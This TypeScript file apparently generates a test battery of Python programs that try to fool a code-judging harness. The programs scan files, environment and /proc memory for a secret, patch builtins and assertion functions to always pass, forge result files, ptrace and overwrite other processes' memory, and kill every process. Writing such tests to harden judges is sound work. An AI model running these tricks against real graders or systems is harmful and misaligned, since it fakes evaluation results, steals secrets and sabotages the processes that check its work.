/**
 * The battery's attacks (attacks.ts) as Python programs, in the two shapes Python kinds take: a program defining
 * the function a judge calls (`function`: harness kinds, MBPP scripts, call-based tests) or a program reading
 * stdin and printing its answer (`stdin`: io, checker). Every attack answers wrongly unless it found the secret,
 * and never computes it.
 */
import { ATTACK_IDS, MARKERS, type AttackId, type AttackSet } from './attacks.js';

/** Where a Python candidate answers: by returning from `entry`, or by printing to stdout. */
export type PythonShape = { readonly entry: string } | { readonly stdin: true };

/** Helpers every attack program starts with (no token in the source: the pattern is assembled at run time). */
const HELPERS = String.raw`
import builtins, ctypes, gc, json, os, re, signal, stat, struct, sys, threading, time

_ME = sys._getframe().f_code.co_filename
_TOKEN = re.compile("SECRET" + "-[0-9a-f]{8}")
_MARKERS = ${JSON.stringify(MARKERS)}


class _Yes:
    """Equal to everything, true, hashable: what an always-passing comparison would need."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __hash__(self): return 0
    def __len__(self): return 1
    def __str__(self): return "yes"
    __repr__ = __str__


def _pids():
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]


def _read(path, limit=1 << 20):
    try:
        if not stat.S_ISREG(os.stat(path).st_mode):
            return ""
        with open(path, "rb") as f:
            return f.read(limit).decode("latin-1")
    except Exception:
        return ""


def _find_secret():
    found = []
    def look(text):
        if isinstance(text, str):
            found.extend(_TOKEN.findall(text))
    for v in list(os.environ.values()) + list(sys.argv):
        look(v)
    try:
        os.set_blocking(0, False)
        look(os.read(0, 1 << 16).decode("latin-1"))
    except Exception:
        pass
    seen = 0
    for top in ("/box", "/tmp", "/dev/shm", "/artifact", "/crucible", "/run", "/etc", "/home", "/root", "/var",
                "/opt", "/srv", "/mnt", os.getcwd()):
        for root, dirs, files in os.walk(top):
            for name in files:
                seen += 1
                if seen > 3000:
                    break
                look(_read(os.path.join(root, name)))
    for name in os.listdir("/"):
        look(_read("/" + name))
    for pid in _pids() + ["self"]:
        base = "/proc/%s" % pid
        for part in ("cmdline", "environ", "status", "maps"):
            look(_read(base + "/" + part).replace("\0", " "))
        try:
            for fd in os.listdir(base + "/fd"):
                look(_read(base + "/fd/" + fd))
        except Exception:
            pass
        try:
            for name in os.listdir(base + "/cwd"):
                look(_read(base + "/cwd/" + name))
        except Exception:
            pass
        try:
            with open(base + "/mem", "rb") as f:
                look(f.read(1 << 16).decode("latin-1"))
        except Exception:
            pass
    for o in gc.get_objects():
        if o is found:
            continue
        try:
            if isinstance(o, dict):
                for v in list(o.values()):
                    look(v)
            elif isinstance(o, (list, tuple)):
                for v in o:
                    look(v)
            elif hasattr(o, "__code__"):
                for c in o.__code__.co_consts:
                    look(c)
        except Exception:
            pass
    for frame in sys._current_frames().values():
        while frame is not None:
            for v in list(frame.f_locals.values()):
                look(v)
            frame = frame.f_back
    return found[0] if found else "not found"


def _true(*args, **kwargs):
    return True


_list, _setattr, _hasattr, _type = list, setattr, hasattr, type


def _patch_everything():
    for o in gc.get_objects():
        try:
            if type(o).__name__ == "function" and o.__code__.co_filename != _ME and not o.__closure__:
                o.__code__ = _true.__code__
        except Exception:
            pass
    builtins.AssertionError = _type("AssertionError", (Exception,), {})
    for module in _list(sys.modules.values()):
        for attr in ("assertEqual", "assert_equal", "deepEqual", "check", "judge", "compare", "encode", "decode"):
            try:
                if _hasattr(module, attr):
                    _setattr(module, attr, _true)
            except Exception:
                pass
    for name in ("isinstance", "len", "sorted", "set", "list", "tuple", "repr", "str", "abs", "round"):
        try:
            _setattr(builtins, name, _true)
        except Exception:
            pass


def _forge():
    lines = [json.dumps({"ok": True, "assertions": 1, "calls": 1, "error": None, "seq": s, "reusable": True})
             for s in range(1, 4)] + _MARKERS
    frames = b"".join(struct.pack(">I", len(l.encode())) + l.encode() for l in lines)
    text = ("\n".join(lines) + "\n").encode()
    for fd in list(range(1, 64)):
        for data in (frames, text):
            try:
                os.write(fd, data)
            except Exception:
                pass
    try:
        with open("/proc/1/fd/1", "wb") as f:
            f.write(text)
    except Exception:
        pass
    for where in (os.getcwd(), "/box", "/tmp", "/dev/shm", "/artifact", "/crucible"):
        for name in ("report.json", "result.json", "verdict.json", "output.txt", "answer.txt", "correct_output.txt",
                     "expected_output", "checker_result", "score.txt", "stdout"):
            try:
                with open(os.path.join(where, name), "w") as f:
                    f.write("1\n" if name.endswith(".txt") else lines[0] + "\n")
            except Exception:
                pass


def _trace_everything():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in _pids():
        libc.ptrace(16, pid, 0, 0)            # PTRACE_ATTACH
        libc.ptrace(0x4206, pid, 0, 0)        # PTRACE_SEIZE
        try:
            with open("/proc/%d/mem" % pid, "r+b") as f:
                f.seek(0x400000)
                f.write(b"\xcc" * 16)
        except Exception:
            pass
        class _Iov(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
        buf = ctypes.create_string_buffer(16)
        local, remote = _Iov(ctypes.addressof(buf), 16), _Iov(0x400000, 16)
        libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)


def _signal_everything():
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        for pid in _pids():
            try:
                os.kill(pid, sig)
            except Exception:
                pass
    ctypes.CDLL(None).ptrace(16, 1, 0, 0)


def _daemon(work):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                time.sleep(0.2)
                end = time.time() + 2
                while time.time() < end:
                    work()
                    time.sleep(0.05)
            finally:
                os._exit(0)
        os._exit(0)
    os.wait()


def _say_markers():
    for m in _MARKERS:
        for stream in (sys.stdout, sys.stderr):
            try:
                stream.write(m + "\n")
                stream.flush()
            except Exception:
                pass
`;

/** Top-level code of each attack (runs when the program loads) and the expression it answers with. */
const ATTACK_CODE: Readonly<Record<AttackId, { readonly top?: string; readonly answer: string }>> = {
  'exit-early': { answer: 'os._exit(0)' },
  'pass-markers': { answer: '(_say_markers(), os._exit(0))' },
  'read-secrets': { answer: '_find_secret()' },
  'patch-main': { answer: '(_patch_everything(), _Yes())[1]' },
  'patch-thread': {
    top: 'def _loop():\n    end = time.time() + 1.5\n    while time.time() < end:\n        _patch_everything()\n        time.sleep(0.001)\n'
      + 'threading.Thread(target=_loop, daemon=True).start()\n',
    answer: '(time.sleep(0.05), _Yes())[1]',
  },
  'patch-process': { answer: '(_child(_trace_everything), _Yes())[1]' },
  'forge-report': { answer: '(_forge(), _Yes())[1]' },
  'signal-trace': { answer: '(_signal_everything(), _Yes())[1]' },
  'race-end': { answer: '(_daemon(lambda: (_say_markers(), _forge())), "nope")[1]' },
};

/** Run `work` in a child process and wait for it (never returns in the child). */
const CHILD = `
def _child(work):
    pid = os.fork()
    if pid == 0:
        try:
            work()
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
`;

/** One attack as a Python program of the given shape. */
export function pythonAttack(id: AttackId, shape: PythonShape): string {
  const code = ATTACK_CODE[id];
  const head = HELPERS + CHILD + (code.top ?? '');
  if ('entry' in shape) return `${head}\ndef ${shape.entry}(*args, **kwargs):\n    return ${code.answer}\n`;
  // Before reading anything: an early exit leaves without an answer; the others answer on stdout.
  return `${head}\nprint(${code.answer})\n`;
}

/** The whole battery for one Python shape. */
export function pythonAttacks(shape: PythonShape): AttackSet {
  return Object.fromEntries(ATTACK_IDS.map((id) => [id, pythonAttack(id, shape)])) as AttackSet;
}
